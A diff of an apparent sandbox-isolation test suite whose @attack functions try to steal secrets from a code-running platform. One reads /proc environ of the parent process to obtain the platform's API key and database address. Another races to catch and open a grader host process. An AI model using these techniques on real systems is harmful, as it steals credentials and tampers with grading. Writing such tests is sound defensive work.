@@ -94,7 +94,8 @@ def environment_of_victim(targets: Targets) -> Loot:
 
 @attack()
 def environment_of_parent(targets: Targets) -> Loot:
-    """Reads the environment of the platform's process, which holds its token and database address."""
+    """Reads the environment of the platform's process, which holds its API key and database
+    address."""
     near = {targets.parent, os.getppid()}
     return b"".join(read(f"/proc/{pid}/environ") for pid in near)
 
@@ -160,7 +161,7 @@ def race_grader(targets: Targets) -> Loot:
     until = time.monotonic() + 1.2
     while time.monotonic() < until:
         for pid in set(pids()) - known:
-            if b"host.py" in read(f"/proc/{pid}/cmdline"):
+            if b"user_code_host.py" in read(f"/proc/{pid}/cmdline"):
                 known.add(pid)
                 try:
                     flags = os.O_RDONLY | os.O_CLOEXEC
